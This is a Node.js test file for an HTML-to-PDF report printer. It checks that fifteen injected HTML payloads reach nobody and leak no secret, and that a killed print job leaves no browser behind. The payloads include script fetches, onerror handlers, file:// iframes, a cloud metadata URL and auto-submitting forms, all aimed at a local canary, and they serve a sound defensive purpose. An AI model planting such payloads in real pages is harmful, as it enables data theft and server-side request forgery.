import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import process from 'node:process';
import { after, test } from 'node:test';
import { setTimeout as delay } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { readEnv } from '../../../db/core/env.ts';
import { KeptBrowser } from '../../../reports/print/browser.ts';
import { findBrowser } from '../../../reports/print/find-browser.ts';
import { printEdition } from '../../../reports/print/printer.ts';
import { editionAnswer } from '../web-fixtures/answers.ts';
import { readPdf } from './read-pdf.ts';
import { CHART, stubSite } from './stub-site.ts';

const browser = new KeptBrowser(findBrowser(readEnv()));
after(() => browser[Symbol.asyncDispose]());
const SECRET = 'canary-secret-4711';

/** Somebody inside: answers over TCP what must not be printed, and counts who knocks, over TCP and UDP. */
async function openCanary() {
  const hits: string[] = [];
  const web = createServer((request, response) => {
    hits.push(`tcp ${request.url}`);
    if (request.url === '/redirect') {
      response.statusCode = 302;
      response.setHeader('location', '/secret');
    }
    response.setHeader('access-control-allow-origin', '*').end(SECRET);
  });
  web.on('connection', () => hits.push('tcp'));
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  const { port } = web.address() as AddressInfo;
  const datagrams = createSocket('udp4').on('message', () => hits.push('udp'));
  await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve));
  return {
    port,
    hits,
    datagrams,
    async [Symbol.asyncDispose]() {
      datagrams.close();
      web.closeAllConnections();
      await new Promise((resolve) => web.close(resolve));
    },
  };
}

/** Fifteen ways out of a page, as somebody might write them into a post. */
const payloads = (port: number, file: string): readonly string[] => {
  const away = `http://127.0.0.1:${port}`;
  return [
    `<script>fetch('${away}/script').then((r) => r.text()).then((t) => document.body.append(t))</script>`,
    `<script src="${away}/remote.js"></script>`,
    `<img src="x" onerror="fetch('${away}/onerror')">`,
    `<img src="${away}/redirect" alt="">`,
    `<iframe src="${away}/secret" width="400" height="90"></iframe>`,
    `<iframe srcdoc="<script>parent.fetch('${away}/srcdoc')</script>"></iframe>`,
    `<object data="${away}/secret" type="text/plain"></object><embed src="${away}/secret">`,
    `<iframe src="file://${file}" width="400" height="90"></iframe><img src="file://${file}" alt="">`,
    `<link rel="stylesheet" href="${away}/style"><style>@import url(${away}/import); p { background: url(${away}/css) }</style>`,
    `<style>@font-face { font-family: F; src: url(${away}/font) } p { font-family: F }</style><p>police</p>`,
    `<svg><use href="${away}/use#a"/><image href="${away}/image"/><foreignObject><iframe src="${away}/secret"></iframe></foreignObject></svg>`,
    `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">`,
    `<video src="${away}/video" poster="${away}/poster"></video><audio src="${away}/audio" autoplay></audio>`,
    `<form action="${away}/form" id="f"><input autofocus onfocus="f.submit()"></form>`,
    `<iframe src="http://169.254.169.254/latest/meta-data/"></iframe><img src="http://localhost.localdomain:${port}/name" alt=""><link rel="preconnect" href="${away}"><link rel="prefetch" href="${away}/prefetch">`,
  ];
};

test('fifteen hostile texts in a page reach nobody, over TCP or UDP, and print nothing that was not in it', async () => {
  await using canary = await openCanary();
  const { port } = canary;
  const file = join(mkdtempSync(join(tmpdir(), 'hostile-')), 'secret.txt');
  writeFileSync(file, SECRET);
  const hostile = payloads(port, file);
  assert.equal(hostile.length, 15);
  const webDir = stubSite({ body: `<h1>Essai</h1>${CHART}${hostile.join('\n')}<p>fin</p>` });
  const { pdf, html } = await printEdition({ ...editionAnswer(), lang: 'fr', webDir, browser }).finally(() =>
    rmSync(webDir, { recursive: true }),
  );
  assert.equal(canary.hits.join(), '');
  const text = (await readPdf(pdf)).pages.join(' ');
  assert.match(text, /fin/);
  assert.doesNotMatch(text, new RegExp(SECRET));
  assert.equal(html.includes(SECRET), false);
  assert.equal(Buffer.from(pdf).includes(SECRET), false);
  await fetch(`http://127.0.0.1:${port}/redirect`);
  const told = once(canary.datagrams, 'message');
  const knocking = createSocket('udp4');
  knocking.send('x', port, '127.0.0.1', () => knocking.close());
  await told;
  assert.ok(canary.hits.includes('tcp /secret') && canary.hits.includes('udp'), 'the canary does count');
});

/** Processes of the browser that carries this mark, zombies apart. */
const marked = (mark: string): number =>
  readdirSync('/proc').filter((name) => {
    if (!/^\d+$/.test(name)) return false;
    try {
      const state = readFileSync(`/proc/${name}/stat`, 'utf8').split(') ').at(-1)?.[0];
      return state !== 'Z' && readFileSync(`/proc/${name}/environ`, 'utf8').includes(`MARK=${mark}`);
    } catch {
      return false;
    }
  }).length;

test('a process that is killed while it prints leaves no browser behind', {
  skip: !existsSync('/proc/self/environ') && 'there is no /proc here',
}, async () => {
  const mark = randomUUID();
  const script = fileURLToPath(new URL('./stuck-print.ts', import.meta.url));
  const child = spawn(process.execPath, [script], { env: { ...process.env, MARK: mark } });
  await once(child.stdout, 'data');
  assert.ok(marked(mark) > 1, 'the browser runs');
  child.kill('SIGKILL');
  await once(child, 'exit');
  const deadline = performance.now() + 15_000;
  while (marked(mark) > 0 && performance.now() < deadline) await delay(50);
  assert.equal(marked(mark), 0);
});
